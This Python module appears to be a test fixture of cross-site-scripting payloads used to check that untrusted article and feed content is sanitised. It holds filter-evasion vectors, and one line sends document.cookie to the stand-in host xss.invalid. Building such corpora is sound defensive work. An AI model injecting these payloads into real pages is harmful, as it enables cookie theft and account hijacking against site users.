"""A corpus of cross-site-scripting payloads that untrusted articles and feeds may carry.

Every payload that could run tries to leave a trace a test can see: it sets
``window.__xss``, opens a dialog (``alert``/``confirm``/``prompt``/``print``) or
requests ``xss.invalid`` (which the browser fixture records). The sources are
the classic filter-evasion lists: script tags, event handlers, script URLs,
SVG and MathML vectors, CSS expressions, entity- and case-obfuscation, and
broken markup that a lenient parser might re-form into a tag.
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=http://xss.invalid/x.js></script>",
    "<script/src=data:,window.__xss=1></script>",
    '"><script>window.__xss=1</script>',
    "'><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</textarea></noscript></style><script>window.__xss=1</script>",
    "<script>/*</script>*/window.__xss=1//</script>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<script type=module>window.__xss=1</script>",
    "<script>fetch('http://xss.invalid/'+document.cookie)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=window.__xss=1>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=window.__xss=1>",
    '<img src="x" onerror="window.__xss=1" alt="pic">',
    "<svg onload=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<div onmouseover=alert(1)>hover me</div>",
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>x</details>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>scroll</marquee>",
    '" onmouseover="alert(1)',
    "' onfocus='window.__xss=1' autofocus='",
    '<a href="#" onclick="window.__xss=1">click</a>',
    "<p style=animation-name:x onanimationstart=window.__xss=1>x</p>",
    "<select autofocus onfocus=window.__xss=1>",
    "<iframe onload=window.__xss=1></iframe>",
    "<object onerror=window.__xss=1></object>",
]

SCRIPT_URLS = [
    '<a href="javascript:window.__xss=1">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href=" &#14; javascript:alert(1)">space</a>',
    '<a href="javascript&colon;alert(1)">colon</a>',
    '<a href="javascript:alert(1)"',
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<button formaction=javascript:alert(1)>go</button>",
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<img src="vbscript:msgbox(1)">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "[markdown link](javascript:window.__xss=1)",
    "[markdown link](JAVASCRIPT:alert(1))",
    "![markdown image](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[reference][xss]\n\n[xss]: javascript:alert(1)",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
]

SVG_AND_MATHML = [
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>',
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">set</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
]

CSS = [
    '<div style="width: expression(alert(1))">css</div>',
    '<div style="background:url(javascript:alert(1))">css</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<p style="behavior: url(x.htc)">htc</p>',
    '<p style="-moz-binding:url(http://xss.invalid/x.xml#x)">binding</p>',
]

OBFUSCATED = [
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "&amp;lt;script&amp;gt;window.__xss=1&amp;lt;/script&amp;gt;",
    "\\x3cscript\\x3ewindow.__xss=1\\x3c/script\\x3e",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "<img src=x onerror=&#119;indow.__xss=1>",
    "<img src=x onerror=\\u0061lert(1)>",
    "＜script＞window.__xss=1＜/script＞",
]

BROKEN_MARKUP = [
    "<<script>script>window.__xss=1<</script>/script>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    '<img src="x" alt="``><script>window.__xss=1</script>">',
    '<!--<img src="--><img src=x onerror=window.__xss=1//">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    '<style><img src="</style><img src=x onerror=window.__xss=1//">',
    '<title><img src="</title><img src=x onerror=window.__xss=1>">',
    '<textarea><img title="</textarea><img src=x onerror=window.__xss=1>">',
    '<a href="x" title="a"onclick=window.__xss=1>attr</a>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "<xmp><script>window.__xss=1</script></xmp>",
    "<template><script>window.__xss=1</script></template>",
    "]]><script>window.__xss=1</script><![CDATA[",
    "</description><script>window.__xss=1</script><description>",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "<img src=x onerror=window.__xss=1",
    "<div <script>window.__xss=1</script>>",
    "<a/href=javascript:alert(1)>slash</a>",
]

# Hugo shortcodes and Jekyll tags the Markdown loader expands (loaders/shortcodes.py), arguments hostile.
SHORTCODES = [
    '{{< figure src="javascript:window.__xss=1" caption="<script>window.__xss=1</script>" >}}',
    '{{< figure src="x.png" alt="&quot; onerror=&quot;window.__xss=1" title="\\" onerror=\\"window.__xss=1" >}}',
    '{{< figure src="x.png" link="javascript:window.__xss=1" >}}',
    '{{< youtube id="x\\" onmouseover=\\"window.__xss=1" >}}',
    '{{< gist "<script>window.__xss=1</script>" 1 >}}',
    "{{< param title >}} {{ page.summary }}",
    "{% raw %}<script>window.__xss=1</script>{% endraw %}",
    '[ref]({{< ref "javascript:window.__xss=1" >}}) [post]({% post_url javascript:window.__xss=1 %})',
]

PAYLOADS: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *SCRIPT_URLS,
    *SVG_AND_MATHML,
    *CSS,
    *OBFUSCATED,
    *BROKEN_MARKUP,
    *SHORTCODES,
]

assert len(PAYLOADS) >= 60, len(PAYLOADS)
assert len(set(PAYLOADS)) == len(PAYLOADS), "duplicate payloads"
